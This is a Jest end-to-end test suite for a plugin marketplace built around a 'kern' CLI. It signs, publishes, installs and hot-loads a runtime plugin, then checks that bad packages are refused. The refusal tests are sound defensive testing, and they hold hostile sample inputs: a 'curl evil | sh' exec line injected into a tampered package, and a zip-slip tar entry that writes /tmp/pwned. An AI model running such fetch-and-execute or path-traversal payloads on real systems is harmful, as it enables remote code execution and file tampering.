/**
 * End to end: the plugin marketplace as a user drives it, with the built
 * `kern` binary only. In a temp dir: a publisher key pair, the raw-exec
 * example packed and signed, a publisher account; `kern registry serve` and
 * `kern up` on free ports; publish, search, an install refused until the
 * key is trusted, then an install that hot-loads into the running kernel
 * (no restart) and brings up the `<node>-raw-exec` node. A pod on raw-exec
 * and one on docker; the driver process SIGKILLed and restarted by the
 * kernel while both pods keep running. Refusals: a tampered package, a
 * signature by another key, a zip-slip entry, a version built for another
 * kernel ABI. A second data dir installed from the lock file. Cleanup
 * leaves no driver or container process behind.
 *
 * Needs the build (`npm test` runs scripts/setup.sh first, which runs tsc -b)
 * and a Docker engine.
 */
import { ChildProcess, spawn } from 'node:child_process';
import {
  cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, readlinkSync, rmSync, statSync, writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import Docker from 'dockerode';
import * as tar from 'tar';
import { RUNTIME_LABELS } from '@kern/sdk';
import { removeContainersOfNode } from '../helpers/docker-cleanup';
import { runKernCli } from '../helpers/kern-cli';

jest.setTimeout(180_000);

const ROOT = resolve(__dirname, '..', '..');
const CLI = join(ROOT, 'dist', 'kernel', 'cli', 'main.js');
const EXAMPLE = join(ROOT, 'sdk', 'examples', 'raw-exec');
const READY = /^Kern ready — API (http:\/\/\S+)(?: and (\S+))?, gRPC (\S+), data (.+) \(admin token in (.+)\)$/m;
const REGISTRY_READY = /^registry listening on (http:\/\/\S+)$/m;
const PLUGIN = 'runtime-raw-exec';
const NODE_NAME = `mk-${process.pid}`;
const RAW_NODE = `${NODE_NAME}-raw-exec`;

interface Run {
  code: number | null;
  stdout: string;
  stderr: string;
}

interface Daemon {
  child: ChildProcess;
  match: RegExpExecArray;
  stdout: () => string;
  stderr: () => string;
  exited: Promise<number | null>;
}

interface PluginProcess {
  pid: number;
  state: string;
  restarts: number;
}

let work: string; // every command runs here
let home: string; // KERN_HOME of the kernel and the CLI
let dataDir: string;
let regDir: string;
let secondDir: string;
let kernel: Daemon | undefined;
let registry: Daemon | undefined;
let registryUrl: string;
let token: string;
let keyId: string;
const children = new Set<ChildProcess>();
/** Processes the kernel started for us, learned on the way: killed in afterAll if a failure left them. */
const driverPids = new Set<number>();
const containerPids = new Set<number>();
const docker = new Docker({ socketPath: '/var/run/docker.sock' });

function track(child: ChildProcess): ChildProcess {
  children.add(child);
  child.on('exit', () => children.delete(child));
  return child;
}

function env(extra: NodeJS.ProcessEnv = {}): NodeJS.ProcessEnv {
  const e: NodeJS.ProcessEnv = { ...process.env, KERN_HOME: home, NO_COLOR: '1' };
  for (const k of ['KERN_SERVER', 'KERN_TOKEN', 'KERN_DATA_DIR', 'KERN_PORT', 'KERN_GRPC_PORT', 'KERN_HOST', 'KERN_REGISTRY', 'KERN_REGISTRY_TOKEN']) delete e[k];
  return { ...e, ...extra };
}

/** Runs one `kern` command to its end, in the work dir. */
function kern(args: string[], options: { input?: string; timeoutMs?: number; env?: NodeJS.ProcessEnv } = {}): Promise<Run> {
  return runKernCli(args, { timeoutMs: 30_000, ...options, cwd: work, env: env(options.env), onSpawn: track });
}

/** `kern ARGS` must exit 0; returns its output, or fails showing all of it. */
async function kernOk(args: string[], options: { input?: string; timeoutMs?: number; env?: NodeJS.ProcessEnv } = {}): Promise<Run> {
  const r = await kern(args, options);
  if (r.code !== 0) throw new Error(`kern ${args.join(' ')} exited ${r.code}\nstdout: ${r.stdout}\nstderr: ${r.stderr}`);
  return r;
}

async function waitFor<T>(what: string, check: () => Promise<T | undefined | false> | T | undefined | false, detail: () => string = () => '', timeoutMs = 30_000): Promise<T> {
  const until = Date.now() + timeoutMs;
  let lastError: unknown;
  for (;;) {
    try {
      const v = await check();
      if (v !== undefined && v !== false) return v;
    } catch (e) {
      lastError = e;
    }
    if (Date.now() > until) throw new Error(`timed out waiting for ${what}\n${detail()}${lastError ? `\nlast error: ${String(lastError)}` : ''}`);
    await new Promise((r) => setTimeout(r, 200));
  }
}

/** A long-running `kern` command; resolves once its stdout matches `ready`. */
async function daemon(args: string[], ready: RegExp, what: string): Promise<Daemon> {
  const child = track(spawn(process.execPath, [CLI, ...args], { cwd: work, env: env(), stdio: ['ignore', 'pipe', 'pipe'] }));
  let out = '';
  let err = '';
  child.stdout!.on('data', (d) => { out += d; });
  child.stderr!.on('data', (d) => { err += d; });
  const exited = new Promise<number | null>((ok) => child.on('exit', (code) => ok(code)));
  let gone = false;
  void exited.then(() => { gone = true; });
  await waitFor(what, () => ready.test(out) || gone, () => `stdout: ${out}\nstderr: ${err}`);
  if (gone) throw new Error(`${what}: the process exited first\nstdout: ${out}\nstderr: ${err}`);
  return { child, match: ready.exec(out)!, stdout: () => out, stderr: () => err, exited };
}

/** Waits for a process we started to exit; SIGKILL after `ms`. */
async function stop(d: Daemon, signal: NodeJS.Signals, ms: number): Promise<number | null> {
  if (d.child.exitCode !== null || d.child.signalCode !== null) return d.child.exitCode;
  d.child.kill(signal);
  const timer = setTimeout(() => d.child.kill('SIGKILL'), ms);
  const code = await d.exited;
  clearTimeout(timer);
  return code;
}

function adminToken(): string {
  return (JSON.parse(readFileSync(join(home, 'config.json'), 'utf8')) as { token: string }).token;
}

async function api(method: string, path: string): Promise<{ status: number; body: any }> {
  const res = await fetch(kernel!.match[1] + path, { method, headers: { authorization: `Bearer ${adminToken()}` } });
  const text = await res.text();
  return { status: res.status, body: text ? JSON.parse(text) : undefined };
}

async function driverProcess(): Promise<PluginProcess | undefined> {
  const r = await api('GET', '/v1/plugins');
  const item = (r.body?.items ?? []).find((p: { id: string }) => p.id === PLUGIN);
  return item?.process;
}

async function pods(): Promise<Record<string, any>> {
  const r = await api('GET', '/api/v1/namespaces/default/pods');
  return Object.fromEntries((r.body.items as any[]).map((p) => [p.metadata.name, p]));
}

function cmdline(pid: number): string {
  try {
    return readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0').join(' ');
  } catch {
    return '';
  }
}

/** A live process whose command line contains `marker` (so a reused pid is not mistaken for ours). */
function alive(pid: number, marker: string): boolean {
  return cmdline(pid).includes(marker);
}

/** The highest `tick N` in `kern logs hostproc`, and every tick in order. */
async function ticks(): Promise<number[]> {
  const r = await kernOk(['logs', 'hostproc']);
  return [...r.stdout.matchAll(/^tick (\d+)$/gm)].map((m) => Number(m[1]));
}

async function dockerStartedAt(): Promise<Record<string, string>> {
  const list = await docker.listContainers({ filters: { label: [`${RUNTIME_LABELS.node}=${NODE_NAME}`] } });
  const entries = await Promise.all(list.map(async (c) => [c.Id, (await docker.getContainer(c.Id).inspect()).State.StartedAt] as const));
  return Object.fromEntries(entries);
}

function lockOf(dir: string): { plugins: Record<string, { version: string; digest: string }> } {
  return JSON.parse(readFileSync(join(dir, 'plugins.lock.json'), 'utf8'));
}

/** Every file under `dir` (recursively) whose name is `name`. */
function findFiles(dir: string, name: string): string[] {
  const found: string[] = [];
  for (const e of readdirSync(dir, { withFileTypes: true })) {
    const p = join(dir, e.name);
    if (e.isDirectory()) found.push(...findFiles(p, name));
    else if (e.name === name) found.push(p);
  }
  return found;
}

const PODS = `apiVersion: v1
kind: Pod
metadata: { name: hostproc }
spec:
  runtimeClassName: raw-exec
  terminationGracePeriodSeconds: 2
  containers:
    - name: main
      image: host
      command: [sh, -c, 'i=0; while true; do echo tick $i; i=$((i+1)); sleep 1; done']
---
apiVersion: v1
kind: Pod
metadata: { name: dockerpod }
spec:
  terminationGracePeriodSeconds: 2
  containers:
    - name: main
      image: kern/busybox:1
      command: [sh, -c, 'while true; do sleep 1; done']
`;

describe('plugin marketplace end to end', () => {
  beforeAll(() => {
    if (!existsSync(CLI) || !existsSync(join(EXAMPLE, 'dist', 'main.js'))) {
      throw new Error(`${CLI} or ${EXAMPLE}/dist is missing: build first with "npx tsc -b" (npm test does this for you)`);
    }
    work = mkdtempSync(join(tmpdir(), 'kern-e2e-marketplace-'));
    home = join(work, 'home');
    dataDir = join(home, 'data');
    regDir = join(work, 'REG');
    secondDir = join(work, 'SECOND');
    mkdirSync(home);
  });

  afterAll(async () => {
    // Normally the last test has done all this; here for a run that failed half way.
    if (kernel && kernel.child.exitCode === null && kernel.child.signalCode === null) {
      await kern(['delete', 'pod', 'hostproc', 'dockerpod', '--ignore-not-found', '--timeout', '15'], { timeoutMs: 20_000 }).catch(() => undefined);
      await stop(kernel, 'SIGTERM', 10_000);
    }
    if (registry) await stop(registry, 'SIGTERM', 5_000);
    for (const pid of containerPids) {
      if (alive(pid, 'tick')) { try { process.kill(-pid, 'SIGKILL'); } catch { /* gone meanwhile */ } }
    }
    for (const pid of driverPids) {
      if (alive(pid, 'dist/main.js')) { try { process.kill(pid, 'SIGKILL'); } catch { /* gone meanwhile */ } }
    }
    for (const child of children) child.kill('SIGKILL');
    await new Promise((r) => setTimeout(r, 100));
    await removeContainersOfNode(NODE_NAME);
    await removeContainersOfNode(RAW_NODE);
    if (work) rmSync(work, { recursive: true, force: true });
  });

  it('makes a key pair, packs and signs the raw-exec example, and adds a publisher', async () => {
    const keygen = await kernOk(['plugin', 'keygen', '--out', 'keys']);
    keyId = /^key id ([0-9a-f]{16})$/m.exec(keygen.stdout)![1];
    expect(statSync(join(work, 'keys', 'publisher.key')).mode & 0o777).toBe(0o600);
    expect(existsSync(join(work, 'keys', 'publisher.pub'))).toBe(true);

    const pack = await kernOk(['plugin', 'pack', EXAMPLE, '-o', 'raw.kpkg']);
    expect(pack.stdout).toMatch(new RegExp(`^packed ${join(work, 'raw.kpkg')} \\(\\d+ bytes\\)\\ndigest sha512-\\S+\\n$`));

    const sign = await kernOk(['plugin', 'sign', 'raw.kpkg', '--key', 'keys/publisher.key']);
    expect(sign.stdout).toBe(`signed ${PLUGIN} 0.1.0 with key ${keyId}: raw.kpkg.sig\n`);
    const verify = await kernOk(['plugin', 'verify', 'raw.kpkg', '--pub', 'keys/publisher.pub']);
    expect(verify.stdout).toMatch(new RegExp(`^${PLUGIN} 0\\.1\\.0: \\d+ files match digest sha512-\\S+\\nsignature: valid, key ${keyId}\\n$`));

    const add = await kernOk(['registry', 'publisher', 'add', 'acme', '--key', 'keys/publisher.pub', '--data-dir', regDir]);
    expect(add.stdout).toMatch(new RegExp(`^publisher acme added \\(key ${keyId}\\)$`, 'm'));
    token = /^token: (\S+)$/m.exec(add.stdout)![1];
  });

  it('starts the registry and the kernel on free ports', async () => {
    registry = await daemon(['registry', 'serve', '--data-dir', regDir, '--port', '0'], REGISTRY_READY, 'the registry listening line');
    registryUrl = registry.match[1];
    expect(registryUrl).toMatch(/^http:\/\/127\.0\.0\.1:\d+$/);
    expect(registryUrl).not.toMatch(/:0$/);
    expect(await (await fetch(`${registryUrl}/healthz`)).text()).toBe('ok');

    kernel = await daemon(
      ['up', '--data-dir', dataDir, '--port', '0', '--grpc-port', '0', '--log-level', 'warn', '--node-name', NODE_NAME],
      READY, 'the ready line of kern up',
    );
    expect(kernel.match[4]).toBe(dataDir);
  });

  it('publishes the package, and search finds it', async () => {
    const publish = await kernOk(['registry', 'publish', 'raw.kpkg', '--registry', registryUrl, '--token', token]);
    expect(publish.stdout).toMatch(new RegExp(`^published ${PLUGIN}@0\\.1\\.0 digest sha512-\\S+$`, 'm'));
    const search = await kernOk(['plugin', 'search', '--registry', registryUrl]);
    expect(search.stdout).toMatch(/^ID\s+LATEST\s+KINDS\s+DESCRIPTION$/m);
    expect(search.stdout).toMatch(new RegExp(`^${PLUGIN}\\s+0\\.1\\.0\\s+runtime/raw-exec\\s+\\S`, 'm'));
  });

  it('refuses to install until the key is trusted, then loads the plugin into the running kernel', async () => {
    const refused = await kern(['plugin', 'install', PLUGIN, '--registry', registryUrl]);
    expect(refused.code).toBe(1);
    expect(refused.stdout).toBe('');
    expect(refused.stderr).toMatch(new RegExp(`^error: .*untrusted key ${keyId} \\(publisher acme\\).*kern plugin trust`, 'm'));
    expect(existsSync(join(dataDir, 'plugins.lock.json'))).toBe(false);
    expect((await kernOk(['plugin', 'list'])).stdout).not.toMatch(PLUGIN);

    const trust = await kernOk(['plugin', 'trust', 'keys/publisher.pub']);
    expect(trust.stdout).toBe(`trusted: key ${keyId} (${join(dataDir, 'trusted-keys', `${keyId}.pub`)})\n`);

    const kernelPid = kernel!.child.pid;
    const install = await kernOk(['plugin', 'install', PLUGIN, '--registry', registryUrl]);
    expect(install.stdout).toMatch(new RegExp(`^installed ${PLUGIN} 0\\.1\\.0 \\(signed by key ${keyId}\\)$`, 'm'));
    expect(install.stdout).toMatch(new RegExp(`^loaded into the running kernel: ${PLUGIN}$`, 'm'));
    expect(install.stderr).toMatch(new RegExp(`^downloaded ${PLUGIN} 0\\.1\\.0 `, 'm'));
    // Hot-loaded: the same kernel process, never restarted.
    expect(kernel!.child.pid).toBe(kernelPid);
    expect(kernel!.child.exitCode).toBeNull();

    const list = await kernOk(['plugin', 'list']);
    expect(list.stdout).toMatch(new RegExp(`^${PLUGIN}\\s+0\\.1\\.0\\s+active\\s+runtime/raw-exec\\s`, 'm'));
    const nodes = await waitFor('the raw-exec node to be Ready', async () => {
      const r = await kernOk(['get', 'nodes']);
      return new RegExp(`^${RAW_NODE}\\s+Ready\\s`, 'm').test(r.stdout) && r.stdout;
    });
    expect(nodes).toMatch(new RegExp(`^${NODE_NAME}\\s+Ready\\s`, 'm'));
  });

  it('runs a pod as a host process on raw-exec and another on docker', async () => {
    writeFileSync(join(work, 'pods.yaml'), PODS);
    expect(await kernOk(['apply', '-f', 'pods.yaml'])).toMatchObject({ stdout: 'pod/hostproc created\npod/dockerpod created\n' });
    await waitFor('both pods Running', async () => {
      const p = await pods();
      return p.hostproc?.status?.phase === 'Running' && p.dockerpod?.status?.phase === 'Running';
    }, () => '', 60_000);

    const list = JSON.parse((await kernOk(['get', 'pods', '-o', 'json'])).stdout);
    const byName = Object.fromEntries((list.items as any[]).map((p) => [p.metadata.name, p]));
    expect(byName.hostproc.spec.nodeName).toBe(RAW_NODE);
    expect(byName.dockerpod.spec.nodeName).toBe(NODE_NAME);
    const wide = await kernOk(['get', 'pods', '-o', 'wide']);
    expect(wide.stdout).toMatch(new RegExp(`^hostproc\\s+1/1\\s+Running\\s+0\\s+.*\\s${RAW_NODE}$`, 'm'));
    expect(wide.stdout).toMatch(new RegExp(`^dockerpod\\s+1/1\\s+Running\\s+0\\s+.*\\s${NODE_NAME}$`, 'm'));

    await waitFor('a tick in kern logs hostproc', async () => (await ticks()).length > 0);

    // The container is a host process: learn its pid (for the final check, and for cleanup after a failure).
    const containers = join(dataDir, 'plugins', PLUGIN, 'containers');
    for (const id of readdirSync(containers)) {
      const pidFile = join(containers, id, 'pid');
      if (existsSync(pidFile)) containerPids.add(Number(readFileSync(pidFile, 'utf8').trim()));
    }
    expect([...containerPids].filter((pid) => alive(pid, 'tick'))).toHaveLength(1);
  });

  it('restarts a SIGKILLed driver while its pods keep running', async () => {
    const before = (await driverProcess())!;
    expect(before).toMatchObject({ state: 'running', restarts: 0, pid: expect.any(Number) });
    driverPids.add(before.pid);
    // It is the installed package's driver: `node dist/main.js` in the installed plugin's dir.
    expect(cmdline(before.pid)).toMatch(/dist\/main\.js/);
    expect(readlinkSync(`/proc/${before.pid}/cwd`)).toBe(join(dataDir, 'plugins-installed', PLUGIN));

    const podsBefore = await pods();
    const dockerBefore = await dockerStartedAt();
    expect(Object.keys(dockerBefore).length).toBeGreaterThan(0);
    const ticksBefore = await ticks();
    const lastTick = ticksBefore[ticksBefore.length - 1];

    process.kill(before.pid, 'SIGKILL');
    const after = await waitFor('the driver to be restarted', async () => {
      const p = await driverProcess();
      return p && p.restarts >= 1 && p.state === 'running' && p.pid !== before.pid && p;
    }, () => '', 30_000);
    driverPids.add(after.pid);
    expect(alive(before.pid, 'dist/main.js')).toBe(false);
    expect(alive(after.pid, 'dist/main.js')).toBe(true);

    const exec = await kernOk(['exec', 'hostproc', '--', 'echo', 'hi']);
    expect(exec.stdout).toBe('hi\n');

    // The host process never stopped: its counter went on, with no gap and no second `tick 0`.
    const later = await waitFor('the tick counter to go on', async () => {
      const t = await ticks();
      return t[t.length - 1] >= lastTick + 2 && t;
    });
    expect(later).toEqual(later.map((_, i) => i));

    const podsAfter = await pods();
    for (const name of ['hostproc', 'dockerpod']) {
      expect(podsAfter[name].status.phase).toBe('Running');
      expect(podsAfter[name].metadata.uid).toBe(podsBefore[name].metadata.uid);
      expect(podsAfter[name].status.containerStatuses[0].restartCount).toBe(0);
      expect(podsAfter[name].status.containerStatuses[0].state).toEqual(podsBefore[name].status.containerStatuses[0].state);
    }
    expect(await dockerStartedAt()).toEqual(dockerBefore);
  });

  it('refuses a tampered package, naming the changed file', async () => {
    const dir = join(work, 'tampered');
    mkdirSync(dir);
    await tar.x({ file: join(work, 'raw.kpkg'), cwd: dir });
    writeFileSync(join(dir, 'dist', 'index.js'), readFileSync(join(dir, 'dist', 'index.js'), 'utf8') + '\nrequire("child_process").exec("curl evil | sh");\n');
    await tar.c({ gzip: true, file: join(work, 'tampered.kpkg'), cwd: dir }, ['kern-package.json', 'README.md', 'package.json', 'dist']);

    const verify = await kern(['plugin', 'verify', 'tampered.kpkg']);
    expect(verify.code).toBe(1);
    expect(verify.stderr).toMatch(/^error: tampered package: dist\/index\.js does not match its recorded SHA-512/m);

    const publish = await kern(['registry', 'publish', 'tampered.kpkg', '--registry', registryUrl, '--token', token]);
    expect(publish.code).toBe(1);
    expect(publish.stderr).toMatch(/^error: tampered package: dist\/index\.js does not match its recorded SHA-512/m);
    const info = JSON.parse((await kernOk(['plugin', 'info', PLUGIN, '--registry', registryUrl, '-o', 'json'])).stdout);
    expect(info.versions.map((v: { version: string }) => v.version)).toEqual(['0.1.0']);
  });

  it('refuses a signature made with another key', async () => {
    const other = await kernOk(['plugin', 'keygen', '--out', 'keys2']);
    const otherKeyId = /^key id ([0-9a-f]{16})$/m.exec(other.stdout)![1];
    const dir = join(work, 'wrong-sig');
    mkdirSync(dir);
    cpSync(join(work, 'raw.kpkg'), join(dir, 'raw.kpkg'));
    await kernOk(['plugin', 'sign', 'wrong-sig/raw.kpkg', '--key', 'keys2/publisher.key']);

    const wrongKey = await kern(['plugin', 'verify', 'wrong-sig/raw.kpkg', '--pub', 'keys/publisher.pub']);
    expect(wrongKey.code).toBe(1);
    expect(wrongKey.stderr).toMatch(new RegExp(`^error: signature: made with key ${otherKeyId}, but the public key given is ${keyId}`, 'm'));

    // The other key's signature under the publisher's key id: the check is on the signature, not the label.
    const sigFile = join(dir, 'raw.kpkg.sig');
    writeFileSync(sigFile, JSON.stringify({ ...JSON.parse(readFileSync(sigFile, 'utf8')), keyId }));
    const forged = await kern(['plugin', 'verify', 'wrong-sig/raw.kpkg', '--pub', 'keys/publisher.pub']);
    expect(forged.code).toBe(1);
    expect(forged.stderr).toMatch(new RegExp(`^error: signature: does not match the package digest for key ${keyId}`, 'm'));
  });

  it('refuses a package with an entry outside it (zip-slip), writing nothing outside', async () => {
    const evil = `evil-${process.pid}.js`;
    const build = join(work, 'slip', 'build', 'pkg');
    mkdirSync(build, { recursive: true });
    await tar.x({ file: join(work, 'raw.kpkg'), cwd: build });
    writeFileSync(join(work, 'slip', evil), 'require("fs").writeFileSync("/tmp/pwned", "")\n');
    // `../../evil-*.js` from the build dir is work/slip/evil-*.js; preservePaths keeps the `..`.
    await tar.c({ gzip: true, file: join(work, 'slip', 'evil.kpkg'), cwd: build, preservePaths: true },
      ['kern-package.json', 'README.md', 'package.json', 'dist', `../../${evil}`]);
    const entries: string[] = [];
    await tar.t({ file: join(work, 'slip', 'evil.kpkg'), onReadEntry: (e) => { entries.push(e.path); } });
    expect(entries).toContain(`../../${evil}`);

    // Its temp dir under our control: `../../evil` from the extraction dir would land right in it.
    const scratch = join(work, 'slip', 'tmp');
    mkdirSync(scratch);
    const verify = await kern(['plugin', 'verify', 'slip/evil.kpkg'], { env: { TMPDIR: scratch } });
    expect(verify.code).toBe(1);
    expect(verify.stderr).toMatch(new RegExp(`^error: package entry "\\.\\./\\.\\./${evil.replace('.', '\\.')}": has a "\\.\\." path segment`, 'm'));
    expect(readdirSync(scratch)).toEqual([]);
    expect(findFiles(work, evil)).toEqual([join(work, 'slip', evil)]);
    expect(existsSync(join(tmpdir(), evil))).toBe(false);
  });

  it('refuses a version built for another kernel ABI, and 0.1.0 keeps running', async () => {
    const dir = join(work, 'raw-exec-0.2.0');
    mkdirSync(dir);
    for (const f of ['package.json', 'README.md', 'dist']) cpSync(join(EXAMPLE, f), join(dir, f), { recursive: true });
    const pkg = JSON.parse(readFileSync(join(dir, 'package.json'), 'utf8'));
    pkg.version = '0.2.0';
    pkg.kern.kernelAbi = '^9.0.0';
    writeFileSync(join(dir, 'package.json'), JSON.stringify(pkg, null, 2) + '\n');
    await kernOk(['plugin', 'pack', dir, '-o', 'raw-0.2.0.kpkg']);
    await kernOk(['plugin', 'sign', 'raw-0.2.0.kpkg', '--key', 'keys/publisher.key']);
    const publish = await kernOk(['registry', 'publish', 'raw-0.2.0.kpkg', '--registry', registryUrl, '--token', token]);
    expect(publish.stdout).toMatch(new RegExp(`^published ${PLUGIN}@0\\.2\\.0 `, 'm'));
    const info = await kernOk(['plugin', 'info', PLUGIN, '--registry', registryUrl]);
    expect(info.stdout).toMatch(/^0\.2\.0\s+\^9\.0\.0 \(not ABI \d+\.\d+\.\d+\)\s/m);

    const driverBefore = (await driverProcess())!;
    const lockBefore = readFileSync(join(dataDir, 'plugins.lock.json'), 'utf8');

    const install = await kern(['plugin', 'install', `${PLUGIN}@0.2.0`, '--registry', registryUrl]);
    expect(install.code).toBe(1);
    expect(install.stderr).toMatch(new RegExp(`^error: cannot install ${PLUGIN}@0\\.2\\.0: ${PLUGIN} 0\\.2\\.0 needs kernel ABI \\^9\\.0\\.0 but this kernel provides ABI \\d+\\.\\d+\\.\\d+`, 'm'));

    // upgrade picks the newest version built for this kernel's ABI: that is still 0.1.0.
    const upgrade = await kern(['plugin', 'upgrade', PLUGIN, '--registry', registryUrl]);
    expect(upgrade).toMatchObject({ code: 0, stdout: `${PLUGIN} 0.1.0 is up to date\nnote: ${PLUGIN} 0.2.0 is published but needs kernel ABI ^9.0.0; this kernel provides ABI 1.0.0\n` });

    expect(readFileSync(join(dataDir, 'plugins.lock.json'), 'utf8')).toBe(lockBefore);
    const list = await kernOk(['plugin', 'list']);
    expect(list.stdout).toMatch(new RegExp(`^${PLUGIN}\\s+0\\.1\\.0\\s+active\\s`, 'm'));
    expect(await driverProcess()).toMatchObject({ state: 'running', pid: driverBefore.pid });
    expect((await pods()).hostproc.status.phase).toBe('Running');
  });

  it('installs exactly the locked plugins into a second data dir', async () => {
    expect((await kernOk(['plugin', 'trust', 'keys/publisher.pub', '--data-dir', secondDir])).stdout).toMatch(new RegExp(`^trusted: key ${keyId} `));
    const install = await kernOk(['plugin', 'install', '--from-lock', join(dataDir, 'plugins.lock.json'), '--data-dir', secondDir, '--registry', registryUrl]);
    expect(install.stdout).toMatch(new RegExp(`^installed ${PLUGIN} 0\\.1\\.0 \\(signed by key ${keyId}\\)$`, 'm'));
    expect(install.stdout).not.toMatch(/loaded into the running kernel/);

    const first = lockOf(dataDir).plugins;
    const second = lockOf(secondDir).plugins;
    expect(Object.keys(second)).toEqual(Object.keys(first));
    for (const [id, p] of Object.entries(first)) expect(second[id]).toMatchObject({ version: p.version, digest: p.digest });
    expect(second[PLUGIN].version).toBe('0.1.0');

    const verify = await kernOk(['plugin', 'verify', '--data-dir', secondDir]);
    expect(verify.stdout).toMatch(new RegExp(`^${PLUGIN} 0\\.1\\.0: ok \\(\\d+ files match the locked digest\\)$`, 'm'));
    expect((await kernOk(['plugin', 'verify'])).stdout).toMatch(new RegExp(`^${PLUGIN} 0\\.1\\.0: ok `, 'm'));
  });

  it('deletes the pods and stops, leaving no driver or container process', async () => {
    expect(await kernOk(['delete', 'pod', 'hostproc', 'dockerpod'], { timeoutMs: 60_000 })).toMatchObject({
      stdout: 'pod "hostproc" deleted\npod "dockerpod" deleted\n',
    });
    await waitFor('the host process to end', () => [...containerPids].every((pid) => !alive(pid, 'tick')));
    expect(await dockerStartedAt()).toEqual({});

    expect(await stop(kernel!, 'SIGTERM', 30_000)).toBe(0);
    await waitFor('the driver processes to end', () => [...driverPids].every((pid) => !alive(pid, 'dist/main.js')), () => `${[...driverPids].map((p) => `${p}: ${cmdline(p)}`).join('\n')}`, 10_000);
    expect(await stop(registry!, 'SIGTERM', 10_000)).toBe(0);
  });
});
